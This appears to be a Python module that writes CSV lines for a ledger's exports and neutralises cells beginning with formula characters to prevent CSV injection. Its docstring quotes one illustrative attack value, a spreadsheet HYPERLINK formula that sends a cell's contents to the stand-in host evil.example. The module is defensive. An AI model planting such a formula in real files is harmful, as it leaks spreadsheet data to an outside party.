"""CSV lines for files that people open in spreadsheets: no text cell is ever read as a formula ("CSV injection").

Spreadsheet programs evaluate a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage return
in front of one) as a formula. So `=HYPERLINK("http://evil.example/?"&A1;"open")` in an envelope's `branch`, written
to Kafka by anyone who can produce to the topic, would turn into a live link, or worse, when an analyst opens the
warehouse's or an audit bundle's CSV. OWASP's rule is applied to every cell we write: a text cell (a `str`) that
starts with one of `FORMULA_LEADS` is written with a single quote `'` in front, which spreadsheets show as text and
never evaluate. Numbers are written as they are: an `int` such as -15824 (a reversal's fine) is data, and stays a
number. The ledger's own ids, codes, dates, hashes and JSON never start with one of those characters, so a file of
ordinary events is byte for byte what it was without this rule.

A cell that holds a comma, a quote, a carriage return or a line feed is quoted, so no such character can start a new
cell (or row) inside it either. The exact original values are kept where the CSV is not the record: `events.jsonl`
in an audit bundle, the `data` column (JSON) in the warehouse's files.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISER = "'"


def neutralise(cell: Any) -> Any:
    """A text cell that a spreadsheet would evaluate, with `'` in front; any other cell as it is."""
    if isinstance(cell, str) and cell.startswith(FORMULA_LEADS):
        return NEUTRALISER + cell
    return cell


def csv_line(cells: Iterable[Any]) -> bytes:
    """One CSV line (UTF-8, "\\n"-terminated, quoted where needed) with every cell neutralised."""
    buffer = io.StringIO()
    # With "\r\n" as its terminator the writer quotes a cell holding either character; with "\n" alone it leaves a
    # lone "\r" bare, which readers take as the end of the row: the rest of the cell would start a row of its own,
    # and could start it with a formula. The files end their lines with "\n", as they always have.
    csv.writer(buffer, lineterminator="\r\n").writerow([neutralise(cell) for cell in cells])
    return buffer.getvalue()[:-2].encode() + b"\n"
